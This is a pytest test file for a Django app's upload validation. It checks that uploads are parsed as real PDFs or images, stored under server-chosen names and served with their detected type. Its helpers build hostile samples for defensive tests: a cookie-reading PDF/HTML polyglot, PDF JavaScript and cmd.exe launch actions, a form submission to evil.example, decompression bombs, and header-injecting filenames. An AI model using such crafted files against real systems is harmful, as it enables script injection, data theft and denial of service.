"""Uploads are parsed, not sniffed (issue 11, point 4): what is accepted opens as a PDF,
PNG or JPEG, without scripts, launch actions, embedded files, encryption or bombs; it is
stored under a name the server chose with the detected extension, and served with the
detected type, never the client's name's."""

import base64
import io
import re
import resource
import struct
import zlib
from datetime import date
from html import unescape
from pathlib import Path, PurePosixPath

import pikepdf
import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.utils import timezone
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from requests_app import services
from requests_app.models import Attachment, DecisionDocument, Message, WrittenWithdrawal
from requests_app.uploads import check_upload, download_name
from tests.factories import PDF_BYTES, decide_request, make_request, officer_of, pdf_file
from tests.helpers import verified

pytestmark = pytest.mark.django_db

SERVER_NAME = re.compile(r"^[0-9a-f]{32}\.(pdf|png|jpg)$")


# -- hostile files, built here ----------------------------------------------------------------


def changed_pdf(change) -> bytes:
    """The test PDF, changed by ``change(pdf)`` and saved again."""
    pdf = pikepdf.open(io.BytesIO(PDF_BYTES))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def polyglot() -> bytes:
    """A real PDF that is also an HTML page: the script sits in a comment right after the
    header, where a browser sniffing for HTML would find it."""
    first, rest = PDF_BYTES.split(b"\n", 1)
    return first + b"\n%<html><body><script>alert(document.cookie)</script></body></html>\n" + rest


def javascript_open_action(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def javascript_in_a_link(pdf):
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]),
                      A=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([link]))


def javascript_name_tree(pdf):
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))


def javascript_on_page_open(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def launch_action(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"), NewWindow=True)


def embedded_file(pdf):
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")


def file_attachment_annotation(pdf):
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="payload.exe")
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]),
                            FS=spec.obj)
    pdf.pages[0].obj.Annots = Array([annotation])


def submit_form(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))


def encrypted(user_password="") -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF_BYTES)) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user=user_password, owner="owner"))
    return out.getvalue()


def with_zeros_stream(size: int, ascii85: bool = False) -> bytes:
    """A PDF holding one stream of ``size`` zero bytes, deflated (a thousandth of it),
    and then written in ASCII85 if asked."""
    compressor = zlib.compressobj(9)
    block = b"\0" * (1 << 20)
    data = b"".join(compressor.compress(block) for _ in range(size >> 20)) + compressor.flush()

    def change(pdf):
        if ascii85:
            stream = pikepdf.Stream(pdf, base64.a85encode(data, wrapcol=72) + b"~>")
            stream.Filter = Array([Name.ASCII85Decode, Name.FlateDecode])
        else:
            stream = pikepdf.Stream(pdf, data)
            stream.Filter = Name.FlateDecode
        pdf.Root.Extra = pdf.make_indirect(stream)

    return changed_pdf(change)


def huge_page(pdf):
    pdf.pages[0].obj.MediaBox = Array([0, 0, 14400, 14400])


def huge_image(pdf):
    image = pikepdf.Stream(pdf, zlib.compress(b"\0" * 1000))
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width, image.Height, image.BitsPerComponent = 100_000, 100_000, 8
    image.ColorSpace, image.Filter = Name.DeviceGray, Name.FlateDecode
    pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=pdf.make_indirect(image)))


def three_pages() -> bytes:
    def change(pdf):
        pdf.pages.append(pdf.pages[0])
        pdf.pages.append(pdf.pages[0])
    return changed_pdf(change)


def png_declaring(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes that declares ``width`` × ``height`` grey pixels (its
    data: zlib of zeros, far too short, never decoded if the size is refused first)."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    compressor = zlib.compressobj(9)
    rows = b"".join(compressor.compress(b"\0" * (width + 1)) for _ in range(4)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def image_bytes(kind: str, size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, kind)
    return out.getvalue()


def upload(name, content):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def refusal(name, content) -> str:
    with pytest.raises(ValidationError) as caught:
        check_upload(upload(name, content))
    return " ".join(caught.value.messages)


# -- what is accepted and what is refused ---------------------------------------------------------


@pytest.mark.parametrize("name, content, detected, extension", [
    ("plan.pdf", PDF_BYTES, "application/pdf", ".pdf"),
    ("photo.png", image_bytes("PNG"), "image/png", ".png"),
    ("photo.jpeg", image_bytes("JPEG"), "image/jpeg", ".jpg"),
    ("scan.png", PDF_BYTES, "application/pdf", ".pdf"),  # the content decides, not the name
    ("page.html", polyglot(), "application/pdf", ".pdf"),
])
def test_a_good_file_is_accepted_as_what_its_content_is(name, content, detected, extension):
    file = upload(name, content)
    assert check_upload(file) == detected
    assert file.detected_type == file.sniffed_type == detected and file.detected_extension == extension


@pytest.mark.parametrize("content", [
    b"%PDF-1.7\n" + bytes(range(256)) * 8,
    b"%PDF-1.4\n<html><script>alert(1)</script></html>",
    PDF_BYTES[:200],
])
def test_garbage_behind_a_pdf_header_is_refused_as_damaged(content):
    assert "“x.pdf” is damaged or is not a PDF, PNG or JPEG file" in refusal("x.pdf", content)


def test_a_truncated_image_is_refused_as_damaged():
    assert "is damaged" in refusal("photo.png", image_bytes("PNG", (300, 300))[:120])
    assert "is damaged" in refusal("photo.jpg", image_bytes("JPEG", (300, 300))[:300])


@pytest.mark.parametrize("change", [javascript_open_action, javascript_in_a_link, javascript_name_tree,
                                    javascript_on_page_open])
def test_a_pdf_with_javascript_is_refused(change):
    assert "“x.pdf” contains JavaScript" in refusal("x.pdf", changed_pdf(change))


def test_javascript_hidden_in_a_compressed_object_stream_is_found():
    """Names and actions are read from the parsed objects, not searched in the bytes."""
    pdf = pikepdf.open(io.BytesIO(PDF_BYTES))
    script = pdf.make_indirect(pikepdf.Stream(pdf, b"app.alert(1)"))
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=script))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"JavaScript" not in out.getvalue()
    assert "contains JavaScript" in refusal("x.pdf", out.getvalue())


def test_a_pdf_with_a_launch_action_is_refused():
    assert "an action that launches a program" in refusal("x.pdf", changed_pdf(launch_action))


@pytest.mark.parametrize("change", [embedded_file, file_attachment_annotation])
def test_a_pdf_with_an_embedded_file_is_refused(change):
    assert "contains embedded files" in refusal("x.pdf", changed_pdf(change))


def test_a_pdf_that_sends_data_elsewhere_is_refused():
    assert "(SubmitForm)" in refusal("x.pdf", changed_pdf(submit_form))


@pytest.mark.parametrize("user_password", ["", "secret"])
def test_an_encrypted_pdf_is_refused_even_with_an_empty_password(user_password):
    assert "is encrypted or protected by a password" in refusal("x.pdf", encrypted(user_password))


def test_a_huge_png_is_refused_without_being_decoded():
    bomb = png_declaring(30_000, 30_000)
    assert len(bomb) < 2000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert "too large to be opened safely" in refusal("bomb.png", bomb)
    grown_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kb < 100_000, "900 million pixels would take 900 MB"


@override_settings(NAFIDA_MAX_IMAGE_PIXELS=1000)
def test_the_pixel_bound_is_a_setting():
    assert "more than 1,000 pixels" in refusal("photo.png", image_bytes("PNG", (40, 30)))
    assert check_upload(upload("small.png", image_bytes("PNG", (30, 30)))) == "image/png"


@pytest.mark.parametrize("change", [huge_page, huge_image])
def test_a_pdf_with_a_huge_page_or_image_is_refused(change):
    assert "too large to be opened safely" in refusal("x.pdf", changed_pdf(change))


@override_settings(NAFIDA_MAX_PDF_DECODED_BYTES=8 << 20)
def test_a_deflate_bomb_in_a_pdf_is_refused():
    bomb = with_zeros_stream(64 << 20)
    assert len(bomb) < 200_000
    assert "expands to more than 8.0" in refusal("x.pdf", bomb)
    assert check_upload(upload("fine.pdf", with_zeros_stream(4 << 20))) == "application/pdf"
    assert "expands to more than" in refusal("x.pdf", with_zeros_stream(64 << 20, ascii85=True))
    assert check_upload(upload("fine.pdf", with_zeros_stream(4 << 20, ascii85=True))) == "application/pdf"


@override_settings(NAFIDA_MAX_PDF_PAGES=2)
def test_a_pdf_with_too_many_pages_is_refused():
    assert "has 3 pages; the limit is 2 pages" in refusal("x.pdf", three_pages())


@pytest.mark.parametrize("name, content_type, served", [
    ("x.html", "application/pdf", "x.pdf"),
    ("scan.PDF", "image/png", "scan.png"),
    ("photo", "image/jpeg", "photo.jpg"),
    ("C:\\Users\\me\\lettre.pdf", "application/pdf", "lettre.pdf"),
    ("invoice\u202egpj.pdf", "application/pdf", "invoicegpj.pdf"),
    ("a\r\nSet-Cookie: x.pdf", "application/pdf", "aSet-Cookie: x.pdf"),
    ("", "application/pdf", "file.pdf"),
])
def test_the_download_name_ends_with_the_detected_extension(name, content_type, served):
    assert download_name(name, content_type) == served


# -- stored under the server's name ------------------------------------------------------------


def stored_name(field) -> str:
    return PurePosixPath(field.name).name


def test_an_attachment_is_stored_under_a_server_chosen_name_with_the_detected_extension(body):
    request = make_request(body=body)
    message = services.send_message(actor=request.requester, information_request=request, text="Files.",
                                    files=[upload("../../etc/évil report.html", polyglot()),
                                           upload("scan.pdf", image_bytes("PNG"))])
    first, second = message.attachments.all()
    assert SERVER_NAME.match(stored_name(first.file)) and stored_name(first.file).endswith(".pdf")
    assert SERVER_NAME.match(stored_name(second.file)) and stored_name(second.file).endswith(".png")
    assert "report" not in first.file.name and "scan" not in second.file.name
    assert first.file.name.startswith(f"requests/{request.reference}/messages/")
    # The name it was sent under is kept for the people who read the message, and shown.
    assert first.name == "évil report.html" and first.content_type == "application/pdf"
    assert second.name == "scan.pdf" and second.content_type == "image/png"
    assert first.file.read() == polyglot()


def test_documents_receipts_and_withdrawals_are_stored_under_server_chosen_names(body):
    request = make_request(body=body)
    officer = officer_of(body)
    documents = [("Plan", pdf_file("plan.html", polyglot()), "full"),
                 ("Photo", pdf_file("photo.pdf", image_bytes("JPEG")), "full")]
    decision = decide_request(request, "granted", officer=officer, prepared=documents)
    names = sorted(stored_name(item.file) for item in decision.documents.all())
    assert all(SERVER_NAME.match(name) for name in names)
    assert sorted(PurePosixPath(name).suffix for name in names) == [".jpg", ".pdf"]

    services.record_answer_receipt(actor=officer, information_request=request,
                                   received_on=timezone.localdate(), via="post",
                                   proof=upload("accusé.png", PDF_BYTES))
    decision.refresh_from_db()
    assert SERVER_NAME.match(stored_name(decision.receipt_proof))
    assert stored_name(decision.receipt_proof).endswith(".pdf")
    assert decision.receipt_proof_name == "accusé.png"

    other = make_request(body=body)
    services.withdraw(actor=officer, information_request=other,
                      written_withdrawal=upload("retrait.pdf", PDF_BYTES))
    record = WrittenWithdrawal.objects.get(request=other)
    assert SERVER_NAME.match(stored_name(record.file)) and record.name == "retrait.pdf"


# -- served with the detected type ---------------------------------------------------------------


def assert_served_as_pdf(response, name):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment;")
    assert f'filename="{name}"' in response["Content-Disposition"]
    assert b"".join(response.streaming_content) == polyglot()


def test_the_polyglot_named_html_reaches_the_requester_as_a_pdf(client, body):
    request = make_request(body=body)
    officer = officer_of(body)
    services.send_message(actor=officer, information_request=request, text="The plan.",
                          files=[upload("x.html", polyglot())])
    attachment = Attachment.objects.get()
    client.force_login(request.requester)
    assert_served_as_pdf(client.get(f"/en/requests/{request.reference}/attachments/{attachment.pk}/"),
                         "x.pdf")
    verified(client, officer)
    assert_served_as_pdf(client.get(f"/en/workspace/requests/{request.reference}/attachments/{attachment.pk}/"),
                         "x.pdf")


def test_the_polyglot_named_html_is_published_as_a_pdf(client, body):
    request = make_request(body=body)
    decision = decide_request(request, "granted", prepared=[("Plan", pdf_file("x.html", polyglot()), "full")])
    services.set_publication_consent(actor=request.requester, information_request=request, consent=True)
    document = decision.documents.get()
    response = client.get(f"/en/register/{request.reference}/documents/{document.pk}/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf" and response["X-Content-Type-Options"] == "nosniff"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;") and disposition.rstrip('"').endswith(".pdf")
    assert "html" not in disposition


def test_the_receipt_and_the_written_withdrawal_are_served_with_their_detected_type(client, body):
    request = make_request(body=body)
    officer = officer_of(body)
    decide_request(request, "refused", officer=officer)
    services.record_answer_receipt(actor=officer, information_request=request,
                                   received_on=timezone.localdate(), via="counter",
                                   proof=upload("accusé.html", polyglot()))
    verified(client, officer)
    response = client.get(f"/en/workspace/requests/{request.reference}/receipt/acknowledgement/")
    assert response["Content-Type"] == "application/pdf" and response["X-Content-Type-Options"] == "nosniff"
    assert "accus%C3%A9.pdf" in response["Content-Disposition"]  # RFC 5987 for a name beyond ASCII

    other = make_request(body=body)
    services.withdraw(actor=officer, information_request=other,
                      written_withdrawal=upload("lettre.htm", polyglot()))
    assert_served_as_pdf(client.get(f"/en/workspace/requests/{other.reference}/written-withdrawal/"),
                         "lettre.pdf")


def test_files_stored_before_server_names_are_still_served_by_their_content(client, body):
    """Rows kept under the client's name: an attachment keeps its recorded type; a
    document is read from its first bytes, never from its name."""
    request = make_request(body=body)
    decision = decide_request(request, "granted")
    document = decision.documents.get()
    legacy = document.file.storage.save(f"requests/{request.reference}/old page.png",
                                        ContentFile(polyglot()))  # the client's extension lied
    DecisionDocument.objects.filter(pk=document.pk).update(file=legacy)
    message = Message.objects.create(request=request, author=request.requester, from_requester=True, text="x")
    old = document.file.storage.save(f"requests/{request.reference}/messages/report.html",
                                     ContentFile(polyglot()))
    attachment = Attachment.objects.create(message=message, file=old, name="report.html",
                                           content_type="application/pdf", size=len(polyglot()))
    client.force_login(request.requester)
    # A released document goes by its neutral name (<reference>-document-<n>), in its type.
    assert_served_as_pdf(client.get(f"/en/requests/{request.reference}/documents/{document.pk}/"),
                         f"{request.reference}-document-1.pdf")
    assert_served_as_pdf(client.get(f"/en/requests/{request.reference}/attachments/{attachment.pk}/"),
                         "report.pdf")


# -- through the web: refused in the page's language, nothing saved ----------------------------------


def private_files() -> set[Path]:
    return set(Path(settings.PRIVATE_MEDIA_ROOT).rglob("*"))


def test_a_requester_sending_a_javascript_pdf_is_refused_in_french_with_nothing_saved(client, body):
    request = make_request(body=body, received_on=date(2026, 9, 1))
    client.force_login(request.requester)
    before = private_files()
    response = client.post(f"/fr/requests/{request.reference}/messages/", {
        "text": "Voici le plan.", "files": [upload("plan.pdf", PDF_BYTES),
                                           upload("piège.pdf", changed_pdf(javascript_open_action))]})
    assert response.status_code == 400
    assert "«\u00a0piège.pdf\u00a0» contient du JavaScript" in unescape(response.content.decode())
    assert not Message.objects.exists() and not Attachment.objects.exists()
    assert private_files() == before


def test_an_officer_sending_a_bomb_is_refused_in_arabic_with_nothing_saved(client, body):
    request = make_request(body=body)
    verified(client, officer_of(body))
    before = private_files()
    response = client.post(f"/ar/workspace/requests/{request.reference}/message/", {
        "text": "الصورة", "files": [upload("photo.png", png_declaring(30_000, 30_000))]})
    assert response.status_code == 400
    content = unescape(response.content.decode())
    assert "photo.png" in content and "كبيرة جدا" in content
    assert not Message.objects.exists() and not Attachment.objects.exists()
    assert private_files() == before
